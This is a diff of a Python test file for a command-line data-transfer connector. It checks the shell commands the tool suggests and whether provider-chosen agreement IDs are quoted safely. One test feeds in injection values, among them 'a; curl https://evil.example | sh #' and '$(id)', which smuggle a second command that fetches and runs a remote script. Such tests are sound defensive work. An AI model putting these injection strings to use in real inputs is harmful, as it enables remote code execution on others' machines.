@@ -72,10 +72,12 @@ def test_what_a_started_transfer_or_an_emptied_dataset_asks_for() -> None:
     started: JsonObject = {"kind": "transfer", "state": "STARTED", "pid": "urn:x", "content": {"agreement": "urn:a"}}
     assert "to pause: battery-connector transfers suspend urn:x" in advice({**started, "role": "provider"})[0]
     assert advice({**started, "role": "consumer"}) == (
-        "battery-connector fetch urn:a", "; to end this one: transfers terminate urn:x"
+        "battery-connector fetch urn:x", ", or: transfers terminate urn:x"
     )  # fmt: skip
     stopped: JsonObject = {**started, "role": "provider", "content": {"suspension": {"by": "us"}}}
     assert "gets nothing: battery-connector transfers resume urn:x" in advice(stopped)[0]
+    asked: JsonObject = {**started, "role": "consumer", "state": "REQUESTED"}
+    assert advice(asked)[0].endswith("once it has: battery-connector fetch urn:x")
     final: JsonObject = {"kind": "negotiation", "role": "provider", "state": "FINALIZED", "pid": "urn:x"}
     for emptied, told in ((False, "the peer may fetch the data"), (True, "did:web:peer has to ask anew")):
         assert told in advice({**final, "counterparty": "did:web:peer", "emptied": emptied})[0]
@@ -110,11 +112,10 @@ def test_a_state_is_as_old_as_the_message_that_led_there() -> None:
     assert since({**process, "state": "TERMINATED"}) == "9"
 
 
-@pytest.mark.parametrize("state", ["FINALIZED", "STARTED"])
-def test_an_agreement_s_id_is_one_word_of_the_command(state: str) -> None:
+def test_an_agreement_s_id_is_one_word_of_the_command() -> None:
     """The provider chooses it, and the command is there to be pasted into a shell."""
     process: JsonObject = {
-        "kind": "negotiation", "role": "consumer", "state": state, "pid": "urn:x", "waits": None, "pending": None,
+        "kind": "negotiation", "role": "consumer", "state": "FINALIZED", "pid": "urn:x", "waits": None, "pending": None,
         "counterparty": "did:web:mine.example",
     }  # fmt: skip
     for ident in ("a; curl https://evil.example | sh #", "$(id)", "it's", "a\nb"):
